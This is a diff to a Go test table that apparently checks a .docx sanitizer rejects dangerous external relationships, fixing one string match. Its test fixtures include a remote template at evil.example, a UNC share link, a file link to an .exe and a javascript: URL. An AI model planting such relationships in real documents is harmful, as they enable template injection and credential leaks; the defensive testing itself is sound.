@@ -161,7 +161,7 @@ func TestBrokenRebuilders(t *testing.T) {
 
 		{"remote template", "a.docx", codeLink, docx(t).relate(wrels, "rId9", "attachedTemplate", "http://evil.example/t.dotm", `TargetMode="External"`).zip()},
 		{"remote picture", "a.docx", codeLink, docx(t).relate(wrels, "rId9", "image", "http://evil.example/a.png", `TargetMode="External"`).zip()},
-		{"styles outside, by a name that is also inside", "a.docx", codeLink, docx(t).replace(wrels, `Target="styles.xml" `, `Target="styles.xml" TargetMode="External"`).zip()},
+		{"styles outside, by a name that is also inside", "a.docx", codeLink, docx(t).replace(wrels, `Target="styles.xml"`, `Target="styles.xml" TargetMode="External"`).zip()},
 		{"link to a file", "a.docx", codeLink, docx(t).replace(wrels, "https://www.example.jp/", "file:///c:/windows/a.exe").zip()},
 		{"link to a share", "a.docx", codeLink, docx(t).replace(wrels, "https://www.example.jp/", `\\evil.example\share`).zip()},
 		{"link to a script", "a.docx", codeLink, docx(t).replace(wrels, "https://www.example.jp/", "javascript:alert(1)").zip()},
